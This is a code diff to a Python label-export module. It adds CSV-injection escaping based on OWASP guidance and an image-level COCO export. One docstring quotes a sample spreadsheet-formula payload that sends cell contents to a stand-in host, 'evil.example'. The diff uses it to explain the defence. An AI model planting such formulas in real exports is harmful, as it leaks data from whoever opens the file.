@@ -19,11 +19,10 @@ which is what ``project.corrected_labels()`` returns):
        sample_id corrected_label  changed      status
     0  cat/1.png             dog     True   relabeled
     1  cat/2.png             cat    False  unreviewed
-    >>> print(to_csv(table).decode())
+    >>> for line in to_csv(table).decode().splitlines(): print(line)
     sample_id,path,original_label,corrected_label,changed,status,reviewer,decided_at
     cat/1.png,cat/1.png,cat,dog,True,relabeled,,
     cat/2.png,cat/2.png,cat,cat,False,unreviewed,,
-    <BLANKLINE>
 """
 
 from __future__ import annotations
@@ -31,6 +30,7 @@ from __future__ import annotations
 import copy
 import json
 import os
+import re
 from pathlib import Path
 
 import pandas as pd
@@ -86,12 +86,63 @@ def _same(a, b) -> bool:
     return (missing_a and missing_b) or (not missing_a and not missing_b and a == b)
 
 
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
+
+
+def csv_safe(table: pd.DataFrame) -> pd.DataFrame:
+    """A copy of ``table`` that a spreadsheet opens as text, never as formulas (CSV injection).
+
+    Every CSV mlfix writes goes through this function (by :func:`safe_csv`), on every text column and
+    the column names: the export (:func:`to_csv`: the Export page, the conflicts downloads,
+    ``mlfix export``) and ``mlfix scores -o``. Following OWASP's CSV injection guidance, a text cell
+    that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a single quote in
+    front, so that a reviewer named ``=HYPERLINK("http://evil.example/?"&A2,"Open")`` is shown, not
+    run, when an admin opens the file. Numbers stay as they are: numeric columns are not touched, and
+    neither is text that is a plain number (a label ``-1`` is not a formula). JSON, COCO and parquet
+    outputs stay raw: they are data for programs, not sheets. Reading such a CSV back with pandas
+    gives the quoted text; use the JSON export for an exact round trip.
+
+    >>> safe = csv_safe(pd.DataFrame({"who": ["=1+2", "-1", "@x", "alice"], "n": [-1, 2, 3, 4]}))
+    >>> safe["who"].tolist(), safe["n"].tolist()
+    (["'=1+2", '-1', "'@x", 'alice'], [-1, 2, 3, 4])
+    """
+    columns = [table.iloc[:, i] if _kept(dtype) else
+               pd.Series([_cell(v) for v in table.iloc[:, i]], index=table.index, dtype=object)
+               for i, dtype in enumerate(table.dtypes)]
+    out = pd.concat(columns, axis=1) if columns else table.copy()
+    out.columns = [_cell(c) for c in table.columns]
+    return out
+
+
+def _kept(dtype) -> bool:
+    """Numbers, booleans and timestamps: written as such, never read as formulas."""
+    return pd.api.types.is_numeric_dtype(dtype) or pd.api.types.is_datetime64_any_dtype(dtype)
+
+
+def _cell(value):
+    """One cell: text that a spreadsheet would run as a formula gets a leading single quote."""
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(value):
+        return "'" + value
+    return value
+
+
+def safe_csv(table: pd.DataFrame) -> bytes:
+    """``table`` (without its index) as UTF-8 CSV bytes that a spreadsheet opens as text: :func:`csv_safe`.
+
+    Lines end in CRLF (RFC 4180), so that a value holding a carriage return or a line feed is quoted
+    and stays one cell; with bare LF endings, pandas leaves a lone CR unquoted and a spreadsheet
+    starts a new row there (``"x\\r=HYPERLINK(...)"`` would be a formula in the next row).
+    """
+    return csv_safe(table).to_csv(index=False, lineterminator="\r\n").encode("utf-8")
+
+
 def to_csv(table: pd.DataFrame) -> bytes:
-    """The export table as UTF-8 CSV bytes (``decided_at`` in ISO 8601, UTC)."""
+    """The export table as UTF-8 CSV bytes (``decided_at`` in ISO 8601, UTC; text made safe by :func:`safe_csv`)."""
     frame = table.copy()
     if "decided_at" in frame:
         frame["decided_at"] = _iso(frame["decided_at"])
-    return frame.to_csv(index=False).encode("utf-8")
+    return safe_csv(frame)
 
 
 def to_json(table: pd.DataFrame, project: dict | None = None) -> bytes:
@@ -153,34 +204,66 @@ def to_coco(coco: dict | str | os.PathLike, table: pd.DataFrame) -> bytes:
 FORMATS = ("csv", "json", "coco")
 
 
+def to_coco_images(table: pd.DataFrame, classes: list[str] | tuple = (), samples: pd.DataFrame | None = None) -> bytes:
+    """A new COCO file of image-level labels, for a project of whole images (a folder, a labels CSV).
+
+    ``images`` (file_name = the path; width and height from ``samples`` when given), ``categories``
+    (``classes`` in order, then any other corrected label; ids from 1) and one annotation per image
+    with a corrected label: ``{id, image_id, category_id}``, no ``bbox``. Nobody drew boxes, so none
+    are invented: tools that need detections should take the CSV or JSON export.
+    """
+    names = list(dict.fromkeys([*map(str, classes), *(str(v) for v in table["corrected_label"] if not _missing(v))]))
+    category = {name: i + 1 for i, name in enumerate(names)}
+    sizes = samples.set_index("sample_id")[["width", "height"]] if samples is not None and \
+        {"width", "height"} <= set(samples.columns) else None
+    images, annotations = [], []
+    for i, (sample_id, path, label) in enumerate(zip(table["sample_id"], table["path"], table["corrected_label"]), 1):
+        image = {"id": i, "file_name": str(path)}
+        if sizes is not None and sample_id in sizes.index and not sizes.loc[sample_id].isna().any():
+            image.update(width=int(sizes.at[sample_id, "width"]), height=int(sizes.at[sample_id, "height"]))
+        images.append(image)
+        if not _missing(label):
+            annotations.append({"id": len(annotations) + 1, "image_id": i, "category_id": category[str(label)]})
+    return json.dumps({"info": {"description": "mlfix image-level labels (no boxes)"}, "images": images,
+                       "annotations": annotations,
+                       "categories": [{"id": i, "name": n, "supercategory": ""} for n, i in category.items()]},
+                      ensure_ascii=False).encode("utf-8")
+
+
+def _missing(value) -> bool:
+    return value is None or (not isinstance(value, str) and bool(pd.isna(value)))
+
+
 def coco_unavailable(source: dict | None) -> str | None:
     """Why a project with data source ``source`` (``Project.source``) has no COCO export; None when it has.
 
-    COCO export writes the corrected labels back into the COCO file the project was made from: a
-    project of whole images (a folder, a labels CSV) has no boxes to write them to, and inventing a
-    box per image would hand other tools detections that nobody drew.
+    A project made from a COCO file gets that file with each box's corrected label
+    (:func:`to_coco`); a project of whole images (a folder, a labels CSV) a new COCO file of
+    image-level labels (:func:`to_coco_images`). Only a COCO source file that is gone stops it.
 
-    >>> coco_unavailable({"images": "photos", "coco": None})[:44]
-    'COCO export needs a project made from a COCO'
+    >>> coco_unavailable({"images": "photos", "coco": None}) is None
+    True
     """
     coco = (source or {}).get("coco")
     if not coco:
-        return ("COCO export needs a project made from a COCO file (`mlfix index --coco FILE`): it writes the "
-                "corrected labels into that file's boxes, and this project has whole images, no boxes. "
-                "Export csv or json instead")
+        return None
     if not Path(coco).is_file():
         return f"the source COCO file {coco} is gone: put it back there to export COCO, or export csv or json"
     return None
 
 
-def export_bytes(table: pd.DataFrame, fmt: str, source: dict | None = None, project: dict | None = None) -> bytes:
+def export_bytes(table: pd.DataFrame, fmt: str, source: dict | None = None, project: dict | None = None,
+                 samples: pd.DataFrame | None = None) -> bytes:
     """The export file in ``fmt`` (one of :data:`FORMATS`) from the export table.
 
     Args:
         table: the export table (:func:`export_table`).
         fmt: ``csv``, ``json`` or ``coco``.
-        source: the project's data source (``Project.source``); COCO needs its ``coco`` file.
-        project: what the JSON export says about the project (its ``"project"`` object).
+        source: the project's data source (``Project.source``); a COCO source file gets the corrected
+            labels, else COCO is a new file of image-level labels.
+        project: what the JSON export says about the project (its ``"project"`` object); its
+            ``classes`` (the class list) are the categories of an image-level COCO file.
+        samples: the sample table (image sizes of an image-level COCO file).
 
     Raises:
         ExportError: an unknown format, or COCO where :func:`coco_unavailable` gives a reason.
@@ -195,6 +278,8 @@ def export_bytes(table: pd.DataFrame, fmt: str, source: dict | None = None, proj
         reason = coco_unavailable(source)
         if reason:
             raise ExportError(reason)
+        if not (source or {}).get("coco"):
+            return to_coco_images(table, (project or {}).get("classes") or (), samples)
         return to_coco(source["coco"], table)
     raise ExportError(f"unknown export format {fmt!r}; use {', '.join(FORMATS)}")
 
